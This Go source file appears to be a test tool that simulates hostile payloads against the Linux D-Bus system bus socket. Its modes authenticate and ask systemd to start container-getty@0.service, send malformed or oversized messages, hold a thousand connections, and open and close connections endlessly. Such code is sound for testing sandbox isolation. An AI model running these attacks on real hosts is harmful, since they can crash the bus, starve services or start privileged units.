// SPDX-License-Identifier: Apache-2.0

package main

import (
	"bytes"
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"net"
	"strings"
	"sync"
	"time"
)

const busSocket = "/run/dbus/system_bus_socket"

const handshake = "\x00AUTH EXTERNAL\r\nDATA\r\nNEGOTIATE_UNIX_FD\r\nBEGIN\r\n"

// attack is what a hostile payload might do to the socket at /run/dbus. It says
// what it got.
func attack(kind string) error {
	switch kind {
	case "session":
		return say(handshake + call("Hello", "org.freedesktop.DBus") +
			call("StartUnit", "org.freedesktop.systemd1.Manager", "container-getty@0.service", "replace"))
	case "garbage":
		return say(strings.Repeat("\xff\x00garbage", 1<<14))
	case "half":
		return say(handshake + call("Hello", "org.freedesktop.DBus")[:30])
	case "header":
		return say(handshake + "l\x01\x00\x01\x00\x00\x10\x00\x01\x00\x00\x00\x00\x00\x10\x00" + strings.Repeat("x", 1<<20))
	case "flood":
		return flood(1000)
	case "siege":
		return siege()
	}
	return fmt.Errorf("unknown attack %q", kind)
}

func dial() (net.Conn, error) {
	d := net.Dialer{Timeout: 5 * time.Second}
	return d.DialContext(context.Background(), "unix", busSocket)
}

// say sends data and prints how much came back until the other side hung up.
func say(data string) error {
	conn, err := dial()
	if err != nil {
		return err
	}
	defer conn.Close()
	go func() { _, _ = io.WriteString(conn, data) }()
	got, err := io.ReadAll(conn)
	fmt.Printf("answer: %d bytes\n", len(got))
	if err != nil {
		fmt.Println("hung up on")
	}
	return nil
}

// flood opens many connections and keeps those it gets.
func flood(n int) error {
	var wait sync.WaitGroup
	var mu sync.Mutex
	held := 0
	for range n {
		wait.Go(func() {
			conn, err := dial()
			for tries := 0; err != nil && tries < 100; tries++ { // the queue is full
				time.Sleep(20 * time.Millisecond)
				conn, err = dial()
			}
			if err != nil {
				return
			}
			mu.Lock()
			held++
			mu.Unlock()
			_ = conn.SetReadDeadline(time.Now().Add(10 * time.Second))
			if _, err := io.Copy(io.Discard, conn); errors.Is(err, io.ErrUnexpectedEOF) {
				return
			}
			_ = conn.Close()
		})
	}
	wait.Wait()
	fmt.Printf("connections: %d\n", held)
	return nil
}

// siege opens connections and closes them at once, until it is killed.
func siege() error {
	for range 50 {
		go func() {
			for {
				if conn, err := dial(); err == nil {
					_ = conn.Close()
				}
			}
		}()
	}
	select {}
}

// call returns a D-Bus call with strings as its arguments.
func call(member, iface string, args ...string) string {
	var body, fields bytes.Buffer
	put := func(b *bytes.Buffer, s string) {
		for b.Len()%4 != 0 {
			b.WriteByte(0)
		}
		_ = binary.Write(b, binary.LittleEndian, uint32(len(s)))
		b.WriteString(s + "\x00")
	}
	for _, a := range args {
		put(&body, a)
	}
	field := func(code byte, kind, value string) {
		for fields.Len()%8 != 0 {
			fields.WriteByte(0)
		}
		fields.WriteString(string([]byte{code, 1}) + kind + "\x00")
		if kind == "g" {
			fields.WriteString(string([]byte{byte(len(value))}) + value + "\x00")
			return
		}
		put(&fields, value)
	}
	field(1, "o", "/org/freedesktop/systemd1")
	field(2, "s", iface)
	field(3, "s", member)
	if len(args) > 0 {
		field(8, "g", strings.Repeat("s", len(args)))
	}
	length := fields.Len()
	for fields.Len()%8 != 0 {
		fields.WriteByte(0)
	}
	head := binary.LittleEndian.AppendUint32([]byte("l\x01\x00\x01"), uint32(body.Len()))
	head = binary.LittleEndian.AppendUint32(head, 1)
	head = binary.LittleEndian.AppendUint32(head, uint32(length))
	return string(head) + fields.String() + body.String()
}
